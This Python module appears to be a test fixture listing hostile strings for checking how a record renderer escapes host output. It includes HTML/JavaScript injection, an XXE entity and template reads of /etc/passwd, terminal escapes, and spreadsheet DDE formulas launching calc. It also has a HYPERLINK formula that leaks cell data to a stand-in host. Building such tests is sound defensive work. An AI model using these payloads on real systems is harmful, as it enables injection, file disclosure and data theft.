"""Texts that a host may answer with to mislead whoever reads a record: one table for every form of it."""

from typing import NamedTuple


class HostileText(NamedTuple):
    """`shows`: a piece that a reader still sees."""

    text: str
    shows: str


HOSTILE_TEXTS: dict[str, HostileText] = {
    "a script": HostileText("</td><script>alert(1)</script>", "alert(1)"),
    "an attribute": HostileText('" onmouseover="alert(2)', "alert(2)"),
    "the end of a section of XML": HostileText("]]></failure><testcase name='x'/>&amp;&#0;", "testcase name"),
    "an entity of XML": HostileText('<!ENTITY x SYSTEM "file:///etc/passwd">&x;', "SYSTEM"),
    "a template": HostileText("{{ 7 * 7 }} {% include '/etc/passwd' %}", "7 * 7"),
    "code of typst": HostileText('#panic("p") #read("/etc/passwd") $x$ *b* _i_ <label> @ref ```raw', "panic"),
    "a comment of typst": HostileText("/* gone */ // and gone", "gone"),
    "code of TeX": HostileText("\\input{/etc/passwd} %", "passwd"),
    "escapes of a terminal": HostileText("\x1b[2J\x1b]0;owned\x07\x9b31mred", "owned"),
    "reversed text": HostileText("\u202egnp.exe\u2066 \u200f", "gnp.exe"),
    "invisible text": HostileText("a\u200bb\u2060c\ufeffd\U000e0041e\u00adf", "f"),
    "no character at all": HostileText("\x00\ufffe\uffff zero", "zero"),
    "half a pair": HostileText("\ud800 half \udcff", "half"),
    "lines of its own": HostileText("fine\r\nverified,all\r\n2.4.0\u2028next\x85more", "verified,all"),
    "a formula": HostileText('=HYPERLINK("http://192.0.2.1/?"&A1)', "HYPERLINK"),
    "a formula that adds": HostileText("+1+cmd|' /C calc'!A0", "calc"),
    "a formula that subtracts": HostileText("-2+3+cmd|' /C calc'!A0", "calc"),
    "a formula of old": HostileText("@SUM(1+1)*cmd|' /C calc'!A0", "SUM"),
    "a formula behind white space": HostileText("\t\r\n =1+1", "1+1"),
    "a formula in full width": HostileText("\uff1d1+1", "1+1"),
    "a link": HostileText("javascript:alert(3) https://192.0.2.1/x", "javascript"),
    "letters of many scripts": HostileText("日本語 العربية עברית ไทย 😀 e\u0301", "日本語"),
    "a million letters": HostileText("m" * 1_000_000, "mmmm"),
    "a million brackets": HostileText("[" * 1_000_000, "[[[["),
}
